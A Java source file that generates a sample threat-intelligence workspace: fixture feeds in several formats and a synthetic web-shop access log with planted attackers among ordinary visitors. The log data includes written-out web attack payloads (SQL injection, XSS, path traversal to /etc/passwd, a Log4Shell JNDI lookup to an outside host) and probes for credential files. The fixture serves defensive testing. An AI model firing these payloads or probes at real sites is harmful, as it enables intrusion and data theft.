package dev.threatip.demo;

import java.io.BufferedWriter;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;

/**
 * Writes a sample workspace: threat feeds in five real formats and 24 hours of a web shop's
 * access log in Apache/nginx combined format, with attackers planted among ordinary visitors.
 * The same seed and start give the same bytes.
 *
 * <p>Addresses lie in ordinary public space (45.x, 91.x, 185.x ...), not in the documentation
 * ranges, because the compiler leaves documentation space out of snapshots; they are fixtures
 * only. Visitors and feed filler come from disjoint first octets, so no ordinary visitor is
 * listed by accident.
 *
 * <pre>
 * feeds/blocklist_de_ssh.ipset        FireHOL ipset with header    brute-forcers
 * feeds/ipsum.txt                     IP&lt;TAB&gt;count                 scanners, web attackers (counts 1-9)
 * feeds/tor-exit-nodes.lst            TorDNSEL ExitAddress          Tor exits
 * feeds/stix-webattack-bundle.json    STIX 2.1 indicators           web attackers (sqli, xss)
 * feeds/crawlers-googlebot-bingbot.json  MISP warninglist (cidr)    verified crawler ranges: known good
 * logs/access.log                     ~20,000 lines over 24 h
 * </pre>
 */
public final class SampleWorkspace {
    /** What was planted, for the demo's printout and for tests. */
    public enum Role { BRUTE_FORCE, SCANNER, WEB_ATTACK, TOR, CRAWLER, VISITOR }

    /**
     * A written workspace.
     *
     * @param root    the workspace directory
     * @param feeds   its feed folder (one spec compiles it all)
     * @param log     the access log
     * @param lines   lines in the access log
     * @param clients every client address of the log with the role it plays
     */
    public record Written(Path root, Path feeds, Path log, long lines, Map<String, Role> clients) {
        /** The addresses planted as attackers (listed in a threat feed). */
        public List<String> attackers() {
            return clients.entrySet().stream()
                    .filter(e -> e.getValue() != Role.VISITOR && e.getValue() != Role.CRAWLER)
                    .map(Map.Entry::getKey).toList();
        }
    }

    private static final String HOST = "https://shop.example.com";
    private static final DateTimeFormatter CLF = DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss Z", Locale.ROOT)
            .withZone(ZoneOffset.UTC);
    private static final DateTimeFormatter FIREHOL_DATE = DateTimeFormatter
            .ofPattern("EEE MMM d HH:mm:ss 'UTC' yyyy", Locale.ROOT).withZone(ZoneOffset.UTC);
    private static final DateTimeFormatter TOR_DATE = DateTimeFormatter.ofPattern("yyyy-MM-dd HH:mm:ss", Locale.ROOT)
            .withZone(ZoneOffset.UTC);
    private static final DateTimeFormatter IPSUM_DATE = DateTimeFormatter
            .ofPattern("EEE, d MMM yyyy HH:mm:ss Z", Locale.ROOT).withZone(ZoneOffset.UTC);

    /** First octets of ordinary visitors; feed filler never uses them. */
    private static final int[] VISITOR_OCTETS = {2, 5, 31, 37, 62, 77, 78, 79, 80, 81, 82, 83, 84, 86, 88, 90, 92,
            93, 95, 109, 176, 178, 188, 212, 213, 217};
    private static final int[] FILLER_OCTETS = {101, 112, 114, 117, 118, 121, 122, 123, 124, 125, 139, 141, 150, 159,
            161, 164, 167, 171, 175, 177, 181, 186, 187, 189, 190, 191, 200, 201, 222};

    private static final String[] BROWSER_UAS = {
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.102 Mobile Safari/537.36",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
    };
    private static final String TOR_UA = "Mozilla/5.0 (Windows NT 10.0; rv:128.0) Gecko/20100101 Firefox/128.0";
    private static final String[] SCANNER_UAS = {
        "Mozilla/5.0 zgrab/0.x",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36 nuclei",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "python-requests/2.31.0",
    };
    private static final String GOOGLEBOT_UA = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    private static final String BINGBOT_UA = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)";

    private static final String[] PRODUCTS = {"linen-shirt", "wool-scarf", "leather-boots", "denim-jacket",
        "canvas-tote", "silk-tie", "running-shoes", "rain-coat", "cotton-socks", "straw-hat", "trail-backpack",
        "merino-sweater"};
    private static final String[] CATEGORIES = {"men", "women", "shoes", "accessories", "sale", "new-in"};
    private static final String[] SEARCHES = {"boots", "summer+dress", "gift", "scarf", "size+guide", "jacket"};
    private static final String[] ASSETS = {"/static/css/main.css", "/static/js/app.js", "/static/js/vendor.js",
        "/static/img/logo.svg", "/favicon.ico", "/static/fonts/inter.woff2"};
    private static final String[] PROBES = {"/.env", "/.git/config", "/wp-login.php", "/wp-admin/setup-config.php",
        "/phpmyadmin/index.php", "/.aws/credentials", "/config.json", "/server-status", "/actuator/env",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/admin/.env", "/backup.zip", "/.DS_Store",
        "/cgi-bin/luci/;stok=/locale", "/solr/admin/info/system", "/owa/auth/logon.aspx", "/xmlrpc.php",
        "/boaform/admin/formLogin", "/.svn/entries", "/debug/default/view"};
    private static final String[] PAYLOADS = {
        "/products?id=1%27%20OR%20%271%27=%271",
        "/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
        "/download?file=../../../../etc/passwd",
        "/download?file=..%2f..%2f..%2f..%2fetc%2fshadow",
        "/products?id=1;SELECT%20pg_sleep(5)--",
        "/category/men?sort=name%27%20AND%201=CONVERT(int,@@version)--",
        "/api/v1/cart?item=${jndi:ldap://198.51.100.9/a}",
    };

    private final Random rnd;
    private final Instant start;
    private final Set<String> used = new HashSet<>();
    private final List<Line> log = new ArrayList<>();
    private final Map<String, Role> clients = new LinkedHashMap<>();

    private record Line(long epochMillis, int seq, String text) {
    }

    private SampleWorkspace(long seed, Instant start) {
        this.rnd = new Random(seed);
        this.start = start;
    }

    /**
     * Writes the workspace under {@code root} (created when missing; files of earlier runs are replaced).
     *
     * @param seed  the random seed
     * @param start the first moment of the 24 hours of logs; the feeds are dated at its end
     */
    public static Written write(Path root, long seed, Instant start) throws IOException {
        return new SampleWorkspace(seed, start).writeAll(root);
    }

    private Written writeAll(Path root) throws IOException {
        Path feeds = Files.createDirectories(root.resolve("feeds"));
        Path logs = Files.createDirectories(root.resolve("logs"));
        Instant published = start.plus(Duration.ofHours(24));

        List<String> brute = attackers(10, Role.BRUTE_FORCE, "45.141", "91.240", "193.32");
        List<String> scanners = attackers(8, Role.SCANNER, "185.224", "185.180", "87.236");
        List<String> web = attackers(6, Role.WEB_ATTACK, "194.26", "179.43", "103.147");
        List<String> tor = new ArrayList<>();
        for (int i = 0; i < 3; i++) {
            String ip = "185.220.101." + (20 + 11 * i + rnd.nextInt(10));
            used.add(ip);
            tor.add(ip);
            clients.put(ip, Role.TOR);
        }
        List<String> crawlers = List.of("66.249.66.1", "66.249.66.87", "66.249.79.140", "157.55.39.12", "207.46.13.77");
        crawlers.forEach(ip -> {
            used.add(ip);
            clients.put(ip, Role.CRAWLER);
        });
        List<String> visitors = new ArrayList<>();
        for (int i = 0; i < 450; i++) {
            String ip = fresh(VISITOR_OCTETS);
            visitors.add(ip);
            clients.put(ip, Role.VISITOR);
        }

        writeIpset(feeds.resolve("blocklist_de_ssh.ipset"), brute, published);
        writeIpsum(feeds.resolve("ipsum.txt"), scanners, web, crawlers.get(0), published);
        writeTor(feeds.resolve("tor-exit-nodes.lst"), tor, published);
        writeStix(feeds.resolve("stix-webattack-bundle.json"), web.subList(0, 3), published);
        writeWarninglist(feeds.resolve("crawlers-googlebot-bingbot.json"));

        while (log.size() < 16_000) {
            visit(visitors.get(rnd.nextInt(visitors.size())), BROWSER_UAS[rnd.nextInt(BROWSER_UAS.length)],
                    2 + rnd.nextInt(8));
        }
        for (String ip : crawlers) {
            crawl(ip, ip.startsWith("66.") ? GOOGLEBOT_UA : BINGBOT_UA);
        }
        scanners.forEach(this::scan);
        brute.forEach(this::bruteForce);
        web.forEach(this::webAttack);
        for (String ip : tor) {
            for (int s = 0; s < 3; s++) {
                visit(ip, TOR_UA, 3 + rnd.nextInt(5));
            }
        }

        log.sort(Comparator.comparingLong(Line::epochMillis).thenComparingInt(Line::seq));
        Path file = logs.resolve("access.log");
        try (BufferedWriter w = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
            for (Line l : log) {
                w.write(l.text());
                w.write('\n');
            }
        }
        return new Written(root, feeds, file, log.size(), Map.copyOf(clients));
    }

    private List<String> attackers(int n, Role role, String... prefixes) {
        List<String> out = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            String ip;
            do {
                ip = prefixes[i % prefixes.length] + "." + (1 + rnd.nextInt(254)) + "." + (1 + rnd.nextInt(254));
            } while (!used.add(ip));
            out.add(ip);
            clients.put(ip, role);
        }
        return out;
    }

    private String fresh(int[] octets) {
        String ip;
        do {
            ip = octets[rnd.nextInt(octets.length)] + "." + rnd.nextInt(256) + "." + rnd.nextInt(256) + "."
                    + (1 + rnd.nextInt(254));
        } while (!used.add(ip));
        return ip;
    }

    // ---------------------------------------------------------------- feeds

    private void writeIpset(Path file, List<String> brute, Instant published) throws IOException {
        List<String> entries = new ArrayList<>(brute);
        for (int i = 0; i < 400; i++) {
            entries.add(fresh(FILLER_OCTETS));
        }
        entries.sort(Comparator.naturalOrder());
        StringBuilder b = new StringBuilder();
        b.append("#\n# blocklist_de_ssh\n#\n# ipv4 hash:ip ipset\n#\n")
                .append("# [Blocklist.de] (https://www.blocklist.de/) All IP addresses \n")
                .append("# which have been reported within the last 48 hours as having \n")
                .append("# run attacks on the service SSH.\n#\n")
                .append("# Maintainer      : Blocklist.de\n")
                .append("# Maintainer URL  : https://www.blocklist.de/\n")
                .append("# List source URL : http://lists.blocklist.de/lists/ssh.txt\n")
                .append("# Source File Date: ").append(FIREHOL_DATE.format(published.minusSeconds(360))).append('\n')
                .append("#\n# Category        : attacks\n# Version         : 82501\n#\n")
                .append("# This File Date  : ").append(FIREHOL_DATE.format(published)).append('\n')
                .append("# Update Frequency: 15 mins \n# Aggregation     : none\n")
                .append("# Entries         : ").append(entries.size()).append(" unique IPs\n#\n")
                .append("# Generated by FireHOL's update-ipsets.sh\n# Processed with FireHOL's iprange\n#\n");
        entries.forEach(e -> b.append(e).append('\n'));
        Files.writeString(file, b, StandardCharsets.UTF_8);
    }

    private void writeIpsum(Path file, List<String> scanners, List<String> web, String crawler, Instant published)
            throws IOException {
        Map<String, Integer> counts = new LinkedHashMap<>();
        for (int i = 0; i < scanners.size(); i++) {
            counts.put(scanners.get(i), i < 3 ? 6 + i : 2 + rnd.nextInt(3)); // three noisy scanners on many lists
        }
        for (String ip : web) {
            counts.put(ip, 1 + rnd.nextInt(3));
        }
        counts.put(crawler, 1); // a verified crawler some list got wrong: the warninglist must win
        for (int i = 0; i < 1200; i++) {
            int c = rnd.nextInt(100);
            counts.put(fresh(FILLER_OCTETS), c < 70 ? 1 : c < 90 ? 2 : c < 97 ? 3 : 4 + rnd.nextInt(4));
        }
        List<Map.Entry<String, Integer>> sorted = new ArrayList<>(counts.entrySet());
        sorted.sort(Map.Entry.<String, Integer>comparingByValue().reversed());
        StringBuilder b = new StringBuilder("# IPsum Threat Intelligence Feed\n# (https://github.com/stamparm/ipsum)\n#\n")
                .append("# Last update: ").append(IPSUM_DATE.format(published)).append("\n#\n")
                .append("# IP\tnumber of (black)lists\n#\n");
        sorted.forEach(e -> b.append(e.getKey()).append('\t').append(e.getValue()).append('\n'));
        Files.writeString(file, b, StandardCharsets.UTF_8);
    }

    private void writeTor(Path file, List<String> tor, Instant published) throws IOException {
        List<String> exits = new ArrayList<>(tor);
        for (int i = 0; i < 60; i++) {
            exits.add(fresh(FILLER_OCTETS));
        }
        StringBuilder b = new StringBuilder();
        for (String ip : exits) {
            Instant seen = published.minusSeconds(rnd.nextInt(6 * 3600));
            b.append("ExitNode ").append(hex(40)).append('\n')
                    .append("Published ").append(TOR_DATE.format(seen.minusSeconds(3600))).append('\n')
                    .append("LastStatus ").append(TOR_DATE.format(seen.minusSeconds(600))).append('\n')
                    .append("ExitAddress ").append(ip).append(' ').append(TOR_DATE.format(seen)).append('\n');
        }
        Files.writeString(file, b, StandardCharsets.UTF_8);
    }

    private void writeStix(Path file, List<String> web, Instant published) throws IOException {
        StringBuilder b = new StringBuilder("{\n  \"type\": \"bundle\",\n  \"id\": \"bundle--").append(uuid())
                .append("\",\n  \"objects\": [\n");
        String[][] kinds = {{"SQL injection against e-commerce search", "sqli"},
            {"Reflected XSS probing", "xss"}, {"Path traversal and SQL injection", "webattack"}};
        String created = published.minus(Duration.ofDays(3)).toString();
        for (int i = 0; i < web.size(); i++) {
            b.append("    {\n      \"type\": \"indicator\",\n      \"spec_version\": \"2.1\",\n")
                    .append("      \"id\": \"indicator--").append(uuid()).append("\",\n")
                    .append("      \"created\": \"").append(created).append("\",\n")
                    .append("      \"modified\": \"").append(created).append("\",\n")
                    .append("      \"name\": \"").append(kinds[i % kinds.length][0]).append("\",\n")
                    .append("      \"indicator_types\": [\"malicious-activity\"],\n")
                    .append("      \"labels\": [\"").append(kinds[i % kinds.length][1]).append("\"],\n")
                    .append("      \"confidence\": ").append(70 + 10 * i).append(",\n")
                    .append("      \"pattern\": \"[ipv4-addr:value = '").append(web.get(i)).append("']\",\n")
                    .append("      \"pattern_type\": \"stix\",\n")
                    .append("      \"valid_from\": \"").append(created).append("\"\n    },\n");
        }
        // A sharing partner's internal C2 address: special-purpose space the compiler must leave out.
        b.append("    {\n      \"type\": \"indicator\",\n      \"spec_version\": \"2.1\",\n")
                .append("      \"id\": \"indicator--").append(uuid()).append("\",\n")
                .append("      \"created\": \"").append(created).append("\",\n")
                .append("      \"modified\": \"").append(created).append("\",\n")
                .append("      \"name\": \"Internal C2 relay seen by a partner\",\n")
                .append("      \"indicator_types\": [\"compromised\"],\n")
                .append("      \"pattern\": \"[ipv4-addr:value = '10.20.30.40']\",\n")
                .append("      \"pattern_type\": \"stix\",\n")
                .append("      \"valid_from\": \"").append(created).append("\"\n    }\n  ]\n}\n");
        Files.writeString(file, b, StandardCharsets.UTF_8);
    }

    private static void writeWarninglist(Path file) throws IOException {
        Files.writeString(file, """
                {
                  "description": "Verified search-engine crawler ranges (Googlebot, Bingbot)",
                  "list": [
                    "66.249.64.0/19",
                    "157.55.39.0/24",
                    "207.46.13.0/24",
                    "2001:4860:4801:10::/60"
                  ],
                  "matching_attributes": ["ip-src", "ip-dst"],
                  "name": "List of known Googlebot and Bingbot crawler ranges",
                  "type": "cidr",
                  "version": 20261101
                }
                """, StandardCharsets.UTF_8);
    }

    // ---------------------------------------------------------------- traffic

    /** A shopper: pages with their static assets, a few seconds to a minute apart, mostly by day. */
    private void visit(String ip, String ua, int pages) {
        long t = daytimeMillis();
        String referer = rnd.nextInt(3) == 0 ? "https://www.google.com/" : "-";
        for (int p = 0; p < pages; p++) {
            String page = page();
            add(t, ip, "GET", page, 200, 8_000 + rnd.nextInt(40_000), referer, ua);
            for (String a : ASSETS) {
                if (rnd.nextInt(3) != 0) {
                    boolean cached = p > 0 && rnd.nextInt(4) != 0;
                    add(t + 40 + rnd.nextInt(400), ip, "GET", a, cached ? 304 : 200,
                            cached ? 0 : 2_000 + rnd.nextInt(120_000), HOST + page, ua);
                }
            }
            referer = HOST + page;
            t += 4_000 + rnd.nextInt(60_000);
        }
    }

    private String page() {
        int k = rnd.nextInt(20);
        if (k < 4) {
            return "/";
        } else if (k < 11) {
            return "/products/" + PRODUCTS[rnd.nextInt(PRODUCTS.length)];
        } else if (k < 15) {
            return "/category/" + CATEGORIES[rnd.nextInt(CATEGORIES.length)];
        } else if (k < 17) {
            return "/search?q=" + SEARCHES[rnd.nextInt(SEARCHES.length)];
        } else if (k < 19) {
            return "/cart";
        }
        return rnd.nextBoolean() ? "/about" : "/contact";
    }

    private void crawl(String ip, String ua) {
        long t = startMillis() + rnd.nextInt(3_600_000);
        add(t, ip, "GET", "/robots.txt", 200, 312, "-", ua);
        add(t + 2_000, ip, "GET", "/sitemap.xml", 200, 18_344, "-", ua);
        for (int i = 0; i < 140; i++) {
            t += 60_000 + rnd.nextInt(540_000);
            String page = page();
            add(t, ip, "GET", page, rnd.nextInt(40) == 0 ? 404 : 200, 8_000 + rnd.nextInt(40_000), "-", ua);
        }
    }

    /** A path scanner: a fast burst of probes for secrets and admin panels, mostly 404. */
    private void scan(String ip) {
        String ua = SCANNER_UAS[rnd.nextInt(SCANNER_UAS.length)];
        long t = startMillis() + rnd.nextInt(22 * 3_600_000);
        int probes = 120 + rnd.nextInt(60);
        for (int i = 0; i < probes; i++) {
            String path = PROBES[rnd.nextInt(PROBES.length)];
            if (rnd.nextInt(5) == 0) {
                path = "/" + PRODUCTS[rnd.nextInt(PRODUCTS.length)] + PROBES[rnd.nextInt(PROBES.length)];
            }
            int status = path.endsWith("/.git/config") || path.endsWith(".env") ? 403 : 404;
            add(t, ip, rnd.nextInt(8) == 0 ? "POST" : "GET", path, status, 150 + rnd.nextInt(400), "-", ua);
            t += 150 + rnd.nextInt(1_500);
        }
    }

    /** A credential guesser: POST /login every second or two, answered 401, then 429. */
    private void bruteForce(String ip) {
        String ua = rnd.nextBoolean() ? "python-requests/2.31.0" : BROWSER_UAS[0];
        long t = startMillis() + rnd.nextInt(20 * 3_600_000);
        add(t, ip, "GET", "/login", 200, 5_412, "-", ua);
        int attempts = 80 + rnd.nextInt(60);
        for (int i = 0; i < attempts; i++) {
            t += 700 + rnd.nextInt(2_000);
            add(t, ip, "POST", "/login", i > 60 && rnd.nextInt(3) == 0 ? 429 : 401, 612, HOST + "/login", ua);
        }
    }

    /** Injection and traversal payloads against the shop's parameters. */
    private void webAttack(String ip) {
        String ua = rnd.nextBoolean() ? "sqlmap/1.8.4#stable (https://sqlmap.org)" : BROWSER_UAS[rnd.nextInt(3)];
        long t = startMillis() + rnd.nextInt(22 * 3_600_000);
        visit(ip, ua, 2);
        int n = 40 + rnd.nextInt(30);
        for (int i = 0; i < n; i++) {
            String p = PAYLOADS[rnd.nextInt(PAYLOADS.length)];
            int status = p.startsWith("/download") ? 400 : rnd.nextInt(4) == 0 ? 500 : 200;
            add(t, ip, "GET", p, status, 300 + rnd.nextInt(9_000), HOST + "/", ua);
            t += 1_000 + rnd.nextInt(8_000);
        }
    }

    private long startMillis() {
        return start.toEpochMilli();
    }

    /** A moment of the day weighted towards shopping hours (08-23 UTC). */
    private long daytimeMillis() {
        int hour = rnd.nextInt(10) < 8 ? 8 + rnd.nextInt(15) : rnd.nextInt(24);
        return startMillis() + hour * 3_600_000L + rnd.nextInt(3_600_000);
    }

    private void add(long millis, String ip, String method, String path, int status, int bytes, String referer,
                     String ua) {
        long clamped = Math.min(millis, startMillis() + 24 * 3_600_000L - 1);
        String line = ip + " - - [" + CLF.format(Instant.ofEpochMilli(clamped)) + "] \"" + method + " " + path
                + " HTTP/1.1\" " + status + " " + bytes + " \"" + referer + "\" \"" + ua + "\"";
        log.add(new Line(clamped, log.size(), line));
    }

    private String hex(int n) {
        StringBuilder b = new StringBuilder(n);
        for (int i = 0; i < n; i++) {
            b.append("0123456789ABCDEF".charAt(rnd.nextInt(16)));
        }
        return b.toString();
    }

    private String uuid() {
        String h = hex(32).toLowerCase(Locale.ROOT);
        return h.substring(0, 8) + "-" + h.substring(8, 12) + "-4" + h.substring(13, 16) + "-a" + h.substring(17, 20)
                + "-" + h.substring(20);
    }
}
